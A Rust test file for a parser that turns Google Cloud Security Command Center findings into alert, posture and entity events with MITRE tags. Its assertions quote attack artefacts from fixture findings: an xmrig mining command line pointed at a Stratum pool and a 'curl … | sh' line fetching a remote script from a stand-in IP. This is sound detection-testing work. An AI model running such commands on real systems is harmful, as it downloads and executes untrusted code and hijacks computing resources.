use super::entities::ResourceName;
use super::finding::{mitre_id, stable_name};
use super::*;
use crate::formats::test_support::{entity, obj};
use crate::formats::{detect_record, Container, Format, Hint};
use crate::model::{EntityKind, EventKind, Severity};
use std::sync::Arc;

const LIST: &str = include_str!("../../../fixtures/samples/gcp-scc/findings-list.json");
const PAGE: &str = include_str!("../../../fixtures/samples/gcp-scc/rest-list-page.json");
const NOTIFICATIONS: &str = include_str!("../../../fixtures/samples/gcp-scc/notifications.jsonl");
const PUSH: &str = include_str!("../../../fixtures/samples/gcp-scc/pubsub-push.json");
const PULL: &str = include_str!("../../../fixtures/samples/gcp-scc/pubsub-pull.json");
const BARE: &str = include_str!("../../../fixtures/samples/gcp-scc/finding.json");
const BAD: &str = include_str!("../../../fixtures/samples/gcp-scc/bad-records.jsonl");

const STRATUM: &str = "Impact: Suspicious crypto mining activity using the Stratum Protocol";

fn items(text: &str) -> Vec<Value> {
    serde_json::from_str::<Value>(text).unwrap().as_array().unwrap().clone()
}

fn parse_plain(text: &str) -> Result<NewEvent, RecordError> {
    parse(text.as_bytes(), &Context::new(&Hint::default()))
}

fn list_events() -> Vec<NewEvent> {
    items(LIST).iter().map(|v| parse_plain(&v.to_string()).unwrap()).collect()
}

fn by_rule<'a>(events: &'a [NewEvent], rule: &str) -> &'a NewEvent {
    events.iter().find(|e| e.rule.as_deref() == Some(rule)).unwrap_or_else(|| panic!("no {}", rule))
}

fn field<'a>(ev: &'a NewEvent, name: &str) -> &'a Value {
    ev.fields.get(name).unwrap_or_else(|| panic!("no field {}", name))
}

#[test]
fn every_shape_is_sniffed_and_no_other_format_claims_it() {
    let mut records: Vec<String> = items(LIST).iter().map(Value::to_string).collect();
    records.extend(items(PULL).iter().map(Value::to_string));
    records.extend(NOTIFICATIONS.lines().map(str::to_string));
    records.push(PUSH.to_string());
    records.push(BARE.to_string());
    for r in &records {
        assert_eq!(detect_record(&obj(r)), Some(Format::Scc), "{}", &r[..80]);
    }
}

#[test]
fn other_records_are_not_claimed() {
    // A Pub/Sub message carrying something else (a log sink's entry).
    let entry = base64::engine::general_purpose::STANDARD.encode(r#"{"logName":"projects/p/logs/x","insertId":"1"}"#);
    let msg = format!(r#"{{"ackId":"a","message":{{"data":"{}","messageId":"1","publishTime":"2026-11-20T09:00:00Z"}}}}"#, entry);
    assert!(!sniff(&obj(&msg)));
    // A name that is not a finding's, a GuardDuty finding, an audit event.
    assert!(!sniff(&obj(r#"{"name":"projects/p/locations/l/clusters/c","category":"x"}"#)));
    assert!(!sniff(&obj(r#"{"finding":{"name":"x"},"resource":{}}"#)));
    assert!(!sniff(&obj(r#"{"id":"1","type":"Execution:Runtime/NewBinaryExecuted","service":{"serviceName":"guardduty"}}"#)));
    assert!(!sniff(&obj(r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a","stage":"ResponseComplete"}"#)));
}

#[test]
fn threats_are_alerts_with_their_mitre_tags_as_attack_ids() {
    let events = list_events();
    let s = by_rule(&events, STRATUM);
    assert_eq!(s.kind, EventKind::Alert);
    assert_eq!(s.severity, Severity::High);
    assert_eq!(s.tactics, ["TA0040"]);
    assert_eq!(s.techniques, ["T1496"]);
    assert_eq!(s.shape, Some("scc-list"));
    let script = by_rule(&events, "Malicious Script Executed");
    assert_eq!(script.tactics, ["TA0002"]);
    assert_eq!(script.techniques, ["T1059.004", "T1059"]);
    let can_get = by_rule(&events, "Discovery: Can get sensitive Kubernetes object");
    assert_eq!(can_get.tactics, ["TA0007"]);
    assert!(can_get.techniques.is_empty());
    assert_eq!(by_rule(&events, "Execution: Added Malicious Binary Executed").severity, Severity::Critical);
    assert_eq!(by_rule(&events, "Added Binary Executed").severity, Severity::Low);
}

#[test]
fn the_mitre_table_knows_every_enum_and_unknown_names_are_kept() {
    assert_eq!(mitre_id("COMMAND_AND_CONTROL", true), Some("TA0011"));
    assert_eq!(mitre_id("resource_hijacking", false), Some("T1496"));
    assert_eq!(mitre_id("ADDITIONAL_CONTAINER_CLUSTER_ROLES", false), Some("T1098.006"));
    assert_eq!(mitre_id("EXECUTION", false), None);
    let mut v: Value = items(LIST)[5].clone();
    v["finding"]["mitreAttack"] = serde_json::json!({
        "primaryTactic": "IMPACT",
        "additionalTactics": ["TACTIC_UNSPECIFIED", "DEFENSE_EVASION"],
        "primaryTechniques": ["RESOURCE_HIJACKING", "SOMETHING_NEW"]
    });
    let ev = parse_plain(&v.to_string()).unwrap();
    assert_eq!(ev.tactics, ["TA0040", "TA0005"]);
    assert_eq!(ev.techniques, ["T1496"]);
    assert_eq!(field(&ev, "unmapped_mitre"), &serde_json::json!(["SOMETHING_NEW"]));
}

#[test]
fn the_miner_finding_names_cluster_pod_image_node_file_and_pool() {
    let events = list_events();
    let s = by_rule(&events, STRATUM);
    let cluster = entity(s, EntityKind::Cluster, "cluster").unwrap();
    assert_eq!(cluster.key, "gke-shop-prod");
    assert_eq!(cluster.attrs["project"], "shop-prod-4821");
    assert_eq!(cluster.attrs["project_number"], "734582910463");
    assert_eq!(cluster.attrs["location"], "europe-west1");
    assert_eq!(entity(s, EntityKind::Pod, "pod").unwrap().key, "shop/cart-7f9c6d8b5-x2k4q");
    assert_eq!(entity(s, EntityKind::Pod, "pod").unwrap().attrs["labels"]["app"], "cart");
    let image = entity(s, EntityKind::Image, "image").unwrap();
    assert_eq!(image.key, "shopregistry.azurecr.io/shop/cart:2.3.1");
    assert_eq!(image.attrs["digest"], "sha256:a72b8526e8d7f59e27cf55b391ecdf35b4fbca1ec1d672736bc0f95e1ffcded4");
    assert_eq!(entity(s, EntityKind::Node, "node").unwrap().key, "gke-shop-prod-default-pool-3f9a2c1e-7k2p");
    assert_eq!(entity(s, EntityKind::File, "file").unwrap().key, "/tmp/.x/xmrig");
    assert_eq!(entity(s, EntityKind::Ip, "destination-ip").unwrap().key, "198.51.100.77");
    assert_eq!(entity(s, EntityKind::Domain, "destination").unwrap().key, "pool.minexmr.example");
    assert_eq!(field(s, "exe"), "/tmp/.x/xmrig");
    assert_eq!(field(s, "container_name"), "cart");
    assert!(field(s, "cmdline").as_str().unwrap().starts_with("/tmp/.x/xmrig -o stratum+tcp://pool.minexmr.example:4444"));
    // The pid is the container's, not the host's: no process or container entity.
    assert_eq!(field(s, "pid"), 58);
    assert!(s.entities.iter().all(|e| e.kind != EntityKind::Process && e.kind != EntityKind::Container));
}

#[test]
fn the_audit_finding_names_the_caller_as_the_audit_log_does() {
    let events = list_events();
    let ev = by_rule(&events, "Discovery: Can get sensitive Kubernetes object");
    let actor = entity(ev, EntityKind::Identity, "actor").unwrap();
    assert_eq!(actor.key, "system:serviceaccount:shop:cart");
    assert!(!actor.attrs.contains_key("provider"));
    assert_eq!(entity(ev, EntityKind::Ip, "source-ip").unwrap().key, "203.0.113.45");
    assert_eq!(field(ev, "method"), "io.k8s.authorization.v1.selfsubjectrulesreviews.create");
    assert!(ev.fields.contains_key("access_reviews"));
}

#[test]
fn the_script_finding_keeps_its_processes() {
    let events = list_events();
    let ev = by_rule(&events, "Malicious Script Executed");
    assert_eq!(field(ev, "exe"), "/bin/sh");
    assert!(field(ev, "script_contents").as_str().unwrap().contains("curl -s -o xmrig"));
    assert_eq!(field(ev, "other_processes")[0]["cmdline"], "sh -c curl -s http://198.51.100.23/x.sh | sh");
}

#[test]
fn a_misconfiguration_is_a_posture_failure() {
    let events = list_events();
    let ev = by_rule(&events, "NETWORK_POLICY_DISABLED");
    assert_eq!(ev.kind, EventKind::Posture);
    assert_eq!(ev.severity, Severity::Medium);
    let failures: Vec<crate::formats::posture::Failure> = serde_json::from_value(field(ev, "failures").clone()).unwrap();
    assert_eq!(failures.len(), 1);
    assert_eq!(failures[0].control, "NETWORK_POLICY_DISABLED");
    assert_eq!(failures[0].resource_label(), "the cluster");
    assert!(failures[0].fix.contains("--enable-network-policy"));
    // The project is named by id there.
    assert_eq!(entity(ev, EntityKind::Cluster, "cluster").unwrap().attrs["project"], "shop-prod-4821");
}

#[test]
fn a_finding_is_one_event_in_every_shape_and_inactive_copies_win() {
    let list = list_events();
    let push = parse_plain(PUSH).unwrap();
    let bare = parse_plain(BARE).unwrap();
    let pulled: Vec<NewEvent> = items(PULL).iter().map(|v| parse_plain(&v.to_string()).unwrap()).collect();
    let notes: Vec<NewEvent> = NOTIFICATIONS.lines().map(|l| parse_plain(l).unwrap()).collect();
    let key = by_rule(&list, STRATUM).dedup_key.clone().unwrap();
    assert_eq!(key, "gcp-scc|sources/11782931468025514622/findings/9f8e7d6c5b4a43219e8d7c6b5a4f3e2d");
    for ev in [&push, &bare, by_rule(&pulled, STRATUM)] {
        assert_eq!(ev.dedup_key.as_deref(), Some(key.as_str()));
    }
    let copies: Vec<&NewEvent> = notes.iter().filter(|e| e.dedup_key.as_deref() == Some(key.as_str())).collect();
    assert_eq!(copies.len(), 2);
    let (active, inactive) = (copies[0], copies[1]);
    assert!(inactive.rank > active.rank);
    assert_eq!(inactive.time_ns, active.time_ns);
    assert_eq!(inactive.title, format!("{} (inactive)", STRATUM));
    assert_eq!(field(inactive, "state"), "INACTIVE");
    assert_eq!(push.shape, Some("pubsub-push"));
    assert_eq!(bare.shape, Some("scc-finding"));
    assert_eq!(pulled[0].shape, Some("pubsub-pull"));
    assert_eq!(notes[0].shape, Some("scc-notification"));
}

#[test]
fn envelopes_are_kept() {
    let push = parse_plain(PUSH).unwrap();
    let env = field(&push, "envelope");
    assert_eq!(env["message_id"], "11937452918837402");
    assert_eq!(env["subscription"], "projects/shop-prod-4821/subscriptions/scc-findings-push");
    assert_eq!(env["notification_config"], "organizations/584213769021/notificationConfigs/scc-gke-threats");
    let page: Value = serde_json::from_str(PAGE).unwrap();
    let h = Hint {
        container: Some(Arc::new(Container { key: "listFindingsResults", page: 1, facts: Map::new() })),
        ..Hint::default()
    };
    let ev = parse(page["listFindingsResults"][1].to_string().as_bytes(), &Context::new(&h)).unwrap();
    assert_eq!(ev.shape, Some("scc-list-page"));
    assert_eq!(field(&ev, "envelope")["state_change"], "CHANGED");
    assert_eq!(field(&ev, "envelope")["page"], 1);
}

#[test]
fn bad_records_say_why() {
    let reasons: Vec<String> = BAD.lines().filter_map(|l| parse_plain(l).err()).map(|e| e.reason).collect();
    assert_eq!(reasons.len(), 4, "{:?}", reasons);
    assert_eq!(reasons[0], "the Pub/Sub message's `data` is not base64");
    assert!(reasons[1].starts_with("the Pub/Sub message's data is not JSON: EOF"), "{}", reasons[1]);
    assert_eq!(reasons[2], "the finding has no `category`");
    assert!(reasons[3].starts_with("invalid JSON"), "{}", reasons[3]);
}

#[test]
fn hostile_input_does_not_panic() {
    for text in [
        r#"{"name":"organizations/1/sources/2/findings/3","category":"x","name":"dup"}"#,
        r#"{"name":"organizations/1/sources/2/findings/3","category":"x","eventTime":"99999-01-01T00:00:00Z","processes":[{"pid":1e400}]}"#,
        r#"{"name":"organizations/1/sources/2/findings/3","category":"x\u0000\u001b","resourceName":"//container.googleapis.com/projects//locations//clusters/"}"#,
        r#"{"message":{"data":"","messageId":"1"},"subscription":"s"}"#,
        r#"{"message":{"data":"W10=","messageId":"1"},"subscription":"s"}"#,
        r#"{"finding":{"name":"organizations/1/sources/2/findings/3","category":7},"resource":[]}"#,
    ] {
        let _ = parse_plain(text);
    }
    assert!(parse_plain(r#"{"message":{"data":"W10=","messageId":"1"},"subscription":"s"}"#).is_err());
}

#[test]
fn finding_names_lose_their_level_and_location() {
    for name in [
        "organizations/5/sources/7/findings/abc",
        "projects/734582910463/sources/7/findings/abc",
        "folders/9/sources/7/locations/global/findings/abc",
    ] {
        assert_eq!(stable_name(name), "sources/7/findings/abc");
    }
}

#[test]
fn resource_names_give_cluster_object_or_node() {
    let r = ResourceName::parse(
        "//container.googleapis.com/projects/p1/zones/europe-west1-b/clusters/c1/k8s/namespaces/shop/pods/cart-7f9c6d8b5-x2k4q",
    );
    assert_eq!(r.project, Some("p1"));
    assert_eq!(r.location, Some("europe-west1-b"));
    assert_eq!(r.cluster, Some("c1"));
    assert_eq!(r.namespace, Some("shop"));
    assert_eq!(r.object, Some(("pods", "cart-7f9c6d8b5-x2k4q")));
    let n = ResourceName::parse("//compute.googleapis.com/projects/1/zones/z/instances/gke-shop-prod-default-pool-3f9a2c1e-7k2p");
    assert_eq!(n.instance, Some("gke-shop-prod-default-pool-3f9a2c1e-7k2p"));
    assert_eq!(n.cluster, None);
    assert_eq!(ResourceName::parse(""), ResourceName::default());
}

#[test]
fn a_pod_resource_name_gives_the_pod_when_kubernetes_says_nothing() {
    let text = r#"{"name":"organizations/1/sources/2/findings/3","category":"Reverse Shell","findingClass":"THREAT",
        "resourceName":"//container.googleapis.com/projects/shop-prod-4821/locations/europe-west1/clusters/gke-shop-prod/k8s/namespaces/shop/pods/cart-7f9c6d8b5-x2k4q",
        "state":"ACTIVE","severity":"CRITICAL","eventTime":"2026-11-20T09:44:00Z"}"#;
    let ev = parse_plain(text).unwrap();
    assert_eq!(entity(&ev, EntityKind::Pod, "pod").unwrap().key, "shop/cart-7f9c6d8b5-x2k4q");
    assert_eq!(entity(&ev, EntityKind::Cluster, "cluster").unwrap().attrs["project"], "shop-prod-4821");
    assert_eq!(ev.severity, Severity::Critical);
}
